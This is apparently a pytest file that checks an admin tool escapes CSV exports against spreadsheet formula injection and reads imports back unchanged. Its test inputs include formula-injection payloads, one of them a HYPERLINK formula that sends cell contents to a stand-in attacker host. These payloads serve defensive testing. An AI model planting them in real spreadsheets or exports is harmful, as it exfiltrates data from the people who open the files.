"""Every CSV the admin writes (lists and the export) is defused against spreadsheet formulas, and an
import of a CSV reads it back as it was written."""

from __future__ import annotations

import csv
import io

import pytest

from zato_outconn.admin.tabular import cell, cell_text

from tests.admin.conftest import API

FORMULAE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(1)', '\uff1dA1', "'=quoted", "'plain"]


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


@pytest.mark.parametrize('text', [*FORMULAE, 'plain', 'Ünïcode – 東京 🚀', ''])
def test_a_cell_is_never_a_formula_and_reads_back_as_it_was(text: str) -> None:
    written = cell(text)
    assert not written.startswith(('=', '+', '-', '@', '\t', '\r', '\uff1d'))
    assert cell_text(written) == text


def test_a_list_of_values_is_defused_as_one_cell() -> None:
    assert cell(['=1', '2']) == "'=1,2" and cell(None) == '' and cell(True) == 'true'


def test_the_outconn_and_security_lists_as_csv_are_defused(sqlite_api: API) -> None:
    api = sqlite_api
    for index, name in enumerate(FORMULAE):
        api.outconn(name, url_path=f'/p{index}')
        api.security(name, username=FORMULAE[3])
    for path in ('/api/v1/outconns?format=csv', '/api/v1/security?format=csv'):
        answer = api.get(path)
        assert answer.status_code == 200 and answer.mimetype == 'text/csv', answer.get_data(as_text=True)
        cells = _cells(answer.get_data(as_text=True))
        assert not [value for value in cells if value[:1] in ('=', '+', '-', '@', '\t', '\r', '\uff1d')], cells
        assert f"'{FORMULAE[0]}" in cells and f"'{FORMULAE[3]}" in cells and "''=quoted" in cells and "''plain" in cells
    # Accept: text/csv is the same list as ?format=csv.
    accepted = api.get('/api/v1/outconns', headers={'Accept': 'text/csv'}).get_data(as_text=True)
    assert _cells(accepted) == _cells(api.get('/api/v1/outconns?format=csv').get_data(as_text=True))
